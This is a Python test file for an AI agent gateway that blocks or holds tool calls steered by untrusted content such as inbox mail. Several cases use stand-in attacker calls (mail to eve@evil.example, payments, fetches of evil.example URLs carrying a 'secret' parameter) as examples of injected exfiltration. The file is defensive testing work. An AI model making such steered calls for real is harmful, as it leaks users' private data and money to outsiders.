"""Text cannot act: in a run that has read what anybody may have written, values have to come from somebody who may."""

import asyncio
from dataclasses import replace
from pathlib import Path

import pytest

from bridle.bridle import Bridle
from bridle.rules.events import CallAdmitted, CallSettled
from bridle.rules.failure import CallFailed, FailureKind
from bridle.rules.flow_of_information import FlowRule, Way, When
from bridle.rules.names import Source, ToolName
from bridle.rules.policy import Enforcement
from bridle.rules.stop import Status, StopReason
from bridle.runs.run import Run
from bridle.runs.signals import Denied
from bridle.testing.virtual_time import VirtualLoop, run_virtual, virtual_world
from tests.gateway.house import journal
from tests.gateway.office import POLICY, TASK, Office, denied, tell


def test_before_anything_untrusted_was_read_nobody_is_asked() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("mail", {"to": "anybody@else.example"})
        await run.call("web", {"url": "https://anywhere.example/"})
        assert len(office.done) == 2

    tell(story)


def test_what_the_user_named_goes_through_and_what_a_mail_names_does_not() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await run.call("mail", {"to": "ann@acme.example"})
        await run.call("mail", {"to": ["ann@acme.example", "bob@acme.example"]})
        await run.call("pay", {"to": "DE89370400440532013000", "amount": 50})
        await run.call("web", {"url": "https://acme.example/plan"})
        refused = await denied(run, "web", url="https://evil.example/?x=2")
        assert refused.reason is StopReason.POLICY_DENIED
        assert refused.detail["rule"] == "flow of information"
        assert "evil" not in str(refused)
        assert len(office.done) == 4

    tell(story)


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("mail", {"to": "eve@evil.example"}),
        ("mail", {"to": ["ann@acme.example", "eve@evil.example"]}),
        ("pay", {"to": "DE89370400440532013000", "amount": 900}),
        ("pay", {"to": "XX", "amount": 50}),
        ("note", {"text": "anything"}),
        ("drop", {"file_id": "m-1"}),
    ],
)
def test_a_write_that_nobody_vouches_for_waits_for_a_person(tool: str, arguments: dict[str, object]) -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await run.call(tool, arguments)

    assert tell(story, waits=True).done == []


def test_an_amount_up_to_the_maximum_needs_no_source() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await run.call("pay", {"to": "DE89370400440532013000", "amount": 19})
        assert office.done == ["pay DE89370400440532013000 19"]

    tell(story)


def test_a_url_that_stood_in_a_result_is_fetched_while_nothing_private_was_read() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await run.call("web", {"url": "https://evil.example/?x=1"})  # nothing of ours leaves with it
        await run.call("web", {"url": "https://a.cdn.example/x"})
        await denied(run, "web", url="https://evil.example/?x=1&secret=2")
        await run.call("crm")
        await denied(run, "web", url="https://evil.example/")
        refused = await denied(run, "web", url="https://acme.example/plan")  # the rule of two
        assert refused.detail["rule"] == "flow of information"
        assert len(office.done) == 2

    tell(story)


def test_an_egress_that_names_no_sinks_has_nothing_but_sinks() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await denied(run, "post", q="dear eve, here it is")
        assert office.done == []

    tell(story)


def test_a_trusted_lookup_that_something_untrusted_steers_is_untrusted() -> None:
    async def story(office: Office, run: Run) -> None:
        assert (await run.call("crm", {"of": "x"})).label.source is Source.TRUSTED
        await run.call("inbox")
        assert (await run.call("crm", {"of": "eve@evil.example"})).label.source is Source.UNTRUSTED
        assert (await run.call("crm", {"of": "ann@acme.example"})).label.source is Source.TRUSTED
        await run.call("inbox")
        settled = [event for event in journal(office.b, run.id) if isinstance(event, CallSettled)]
        assert [event.source.value for event in settled] == ["trusted", "untrusted", "untrusted", "trusted"]
        await run.call("mail", {"to": "dora@acme.example"})

    tell(story)


def test_a_tool_that_returns_its_own_arguments_vouches_for_nothing() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await run.call("crm", {"of": "eve@evil.example"})
        await run.call("contacts", {"name": "eve@evil.example"})
        await run.call("mail", {"to": "eve@evil.example"})

    assert tell(story, waits=True).done == []


def test_whole_fields_of_a_lookup_are_a_directory_whoever_asked() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await run.call("contacts", {"name": "some c"})
        await run.call("mail", {"to": "carl@acme.example"})
        assert office.done == ["mail carl@acme.example"]

    tell(story)


def test_several_calls_of_one_turn_are_judged_by_what_was_read_before_it() -> None:
    async def story(office: Office, run: Run) -> None:
        await asyncio.gather(run.call("inbox"), run.call("crm"))
        await denied(run, "web", url="https://elsewhere.example/")

    tell(story)


def test_an_approved_value_is_trusted_in_this_run_and_in_no_other(tmp_path: Path) -> None:
    async def told(loop: VirtualLoop) -> None:
        async with Bridle(POLICY, f"sqlite:///{tmp_path}/b.db", world=virtual_world(loop)) as b:
            office = Office(b)
            office.furnish()

            async def work(key: str, *targets: str) -> Run:
                async with b.attach(agent="office", task=TASK, key=key) as run:
                    await run.call("inbox")
                    for to in targets:
                        await run.call("mail", {"to": to})
                    run.finish("done")
                return run

            await work("one", "eve@evil.example")
            (question,) = b.approvals.pending()
            assert question.why == (
                "`to` = eve@evil.example was first seen in the output of c1 (inbox, untrusted); not in the task, "
                "not in what trusted tools returned, not in contacts, not in found",
            )
            await b.approvals.answer(question.approval, "approve", "ann")
            again = await work("one", "eve@evil.example", "EVE@evil.example")
            assert office.done == ["mail eve@evil.example", "mail EVE@evil.example"]
            assert again.result is not None
            assert again.result.status is Status.OK
            assert again.result.is_tainted
            other = await work("two", "eve@evil.example")
            assert other.result is not None
            assert other.result.status is Status.WAITING

    run_virtual(told)


def test_what_was_rejected_stays_rejected_when_its_value_is_endorsed_by_another_call() -> None:
    async def told(loop: VirtualLoop) -> None:
        async with Bridle(POLICY, ":memory:", world=virtual_world(loop)) as b:
            office = Office(b)
            office.furnish()
            said: list[str] = []

            async def work() -> None:
                async with b.attach(agent="office", task=TASK, key="k") as run:
                    await run.call("inbox")
                    for text in ("yes", "no"):
                        try:
                            await run.call("mail", {"to": "eve@evil.example", "text": text})
                        except Denied as refused:
                            said.append(f"{text}: {refused.reason}")
                    run.finish("done")

            await work()
            (first,) = b.approvals.pending()
            await b.approvals.answer(first.approval, "reject", "ann", said="no")
            await work()
            pending = b.approvals.pending()
            assert set(said) == {"yes: approval_denied"}
            await b.approvals.answer(pending[0].approval, "approve", "ann")
            await work()
            assert office.done == ["mail eve@evil.example"]
            assert set(said) == {"yes: approval_denied"}

    run_virtual(told)


def test_the_error_of_an_untrusted_tool_is_read_too() -> None:
    async def story(office: Office, run: Run) -> None:
        office.mail = ""  # the far end answers 500, with a body of its own
        failed = await denied(run, "inbox")
        assert "evil" in str(failed)
        await denied(run, "web", url="https://evil.example/?x=2")
        assert office.done == []

    tell(story)


def test_observe_mode_writes_down_what_it_would_have_refused() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await run.call("web", {"url": "https://evil.example/?x=2"})
        assert office.done == ["web https://evil.example/?x=2"]
        passed = [event.also for event in journal(office.b, run.id) if isinstance(event, CallAdmitted)]
        assert passed == [(), ("policy_denied",)]

    tell(story, replace(POLICY, enforcement=Enforcement.OBSERVE))


@pytest.mark.parametrize(
    ("rule", "ends"),
    [
        (FlowRule(when=When.NEVER), "made"),
        (FlowRule(writes_else=Way.ALLOW), "made"),
        (FlowRule(writes_else=Way.DENY), "denied"),
        (FlowRule(writes_else=Way.DENY, when=When.ALWAYS), "denied"),
        (FlowRule(), "asked"),
    ],
)
def test_the_policy_says_what_becomes_of_it(rule: FlowRule, ends: str) -> None:
    async def story(office: Office, run: Run) -> None:
        if rule.when is not When.ALWAYS:
            await run.call("inbox")
        if ends == "denied":
            await denied(run, "mail", to="eve@evil.example")
        else:
            await run.call("mail", {"to": "eve@evil.example"})

    office = tell(story, replace(POLICY, flow_rule=rule), waits=ends == "asked")
    assert (office.done != []) is (ends == "made")


def test_nothing_steers_a_destructive_tool_towards_everything() -> None:
    async def story(office: Office, run: Run) -> None:
        await run.call("inbox")
        await run.call("drop", {"file_id": ""})

    assert tell(story, waits=True).done == []


def test_the_error_of_a_private_tool_is_private() -> None:
    async def story(office: Office, run: Run) -> None:
        async def fails() -> str:
            raise CallFailed(FailureKind.REJECTED, "row 7: the salary of ann is 91,000")

        office.b.tool("note2", effect="read", source="trusted", confidentiality="private")(fails)
        await run.call("inbox")
        with pytest.raises(Denied):
            await run.call("note2")
        await denied(run, "web", url="https://acme.example/plan")

    tell(story, replace(POLICY, allow=POLICY.allow | {ToolName("note2")}))
